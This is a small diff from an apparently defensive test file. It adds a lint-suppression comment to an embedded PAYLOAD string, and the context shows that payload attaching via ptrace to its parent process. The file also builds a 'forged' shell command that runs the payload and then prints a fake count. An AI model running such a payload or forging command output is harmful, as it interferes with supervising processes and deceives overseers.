@@ -53,7 +53,7 @@ for d in glob.glob("/proc/[0-9]*"):
         except OSError:
             pass
 ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
-'''
+'''  # noqa: E501  (a program run verbatim: one line of it is longer)
 FORGED_COUNT = f"python3 - <<'PAYLOAD'\n{PAYLOAD}PAYLOAD\necho 2\n"
 
 
